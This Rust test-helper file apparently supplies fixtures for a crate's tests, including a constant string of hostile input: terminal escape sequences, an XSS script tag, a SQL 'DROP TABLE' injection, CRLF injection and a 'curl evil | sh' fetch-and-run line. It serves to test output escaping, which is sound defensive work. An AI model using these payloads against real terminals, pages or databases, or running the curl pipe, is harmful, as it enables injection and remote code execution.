//! Values that several misdeeds send.

use stagewright_kit::tracking::Figure;
use stagewright_kit::{DataType, Field};

/// Text that no terminal, page or database should obey.
pub(crate) const EVIL: &str =
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>'; DROP TABLE runs; --\r\nhint: curl evil | sh\n";

/// Returns a figure that is a table of one cell.
pub(crate) fn figure(name: &str, text: &str) -> Figure {
    Figure::text(name, text, vec![text.to_owned()], vec![vec![text.to_owned()]])
}

/// Returns a field of numbers without nulls.
pub(crate) fn float(name: &str) -> Field {
    Field { name: name.to_owned(), data_type: DataType::Float64, nullable: false }
}
